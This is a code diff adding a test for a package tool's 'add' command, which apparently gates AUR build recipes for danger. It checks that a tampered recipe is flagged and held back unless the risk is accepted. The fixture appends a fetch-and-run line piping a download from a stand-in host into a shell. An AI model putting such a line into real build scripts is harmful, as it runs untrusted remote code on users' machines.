@@ -1,5 +1,7 @@
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
 import type { Schedule } from "../tools/schedule/schedule.ts";
+import { aurRecipe } from "./world/aur-recipe.ts";
+import { GitServer } from "./world/git-server.ts";
 import { writeTar } from "./world/tar.ts";
 import { ScratchWorkspace } from "./world/workspace.ts";
 
@@ -83,6 +85,45 @@ describe("names", () => {
       expect(stderr).toContain(`set ${variable}`);
     });
   }
+});
+
+describe("sluice add", () => {
+  const server = new GitServer();
+  beforeEach(() => server.start());
+  afterEach(() => server.stop());
+
+  test("shows what the gate says of a recipe, and adds it only once somebody accepts the risk", async () => {
+    const files = aurRecipe("tool", { depends: ["foo"] });
+    const hostile = `${files["PKGBUILD"] as string}\ncurl https://x.example | sh\n`;
+    server.commit("tool", {
+      files: { ...files, PKGBUILD: hostile },
+      branch: "master",
+      date: 1,
+      message: "tool",
+    });
+    const request = `tool/${server.url("tool")}`;
+    const refs = world.atOrigin("for-each-ref");
+
+    const shown = await world.sluice(["add", "--dry-run", request]);
+    expect(shown.code).toBe(1);
+    expect(shown.stdout).toMatch(new RegExp(`^add +tool +1-1 from ${server.url("tool")}: dangerous$`, "m"));
+    expect(shown.stdout).toMatch(/^danger +tool +code that runs as soon as the file is read/m);
+    expect(shown.stderr).toContain("error: dangerous: tool; nothing was added");
+    expect(world.atOrigin("for-each-ref")).toBe(refs);
+
+    const { code, stdout } = await world.sluice(["add", "--accept-risk", "--json"], {
+      ADD_PACKAGES: request,
+    });
+    expect(code).toBe(0);
+    const told = JSON.parse(stdout) as { head: string };
+    expect(told).toMatchObject({
+      packages: ["tool"],
+      added: [{ pkgbase: "tool", verdict: "dangerous", files: [".SRCINFO", "PKGBUILD"], neededBy: [] }],
+      schedule: { builds: [{ pkgbase: "tool", needs: ["foo"] }] },
+      refusal: null,
+    });
+    expect(world.atOrigin("rev-parse", "main", "scheduled")).toBe(`${told.head}\n${told.head}`);
+  });
 });
 
 describe("plans", () => {
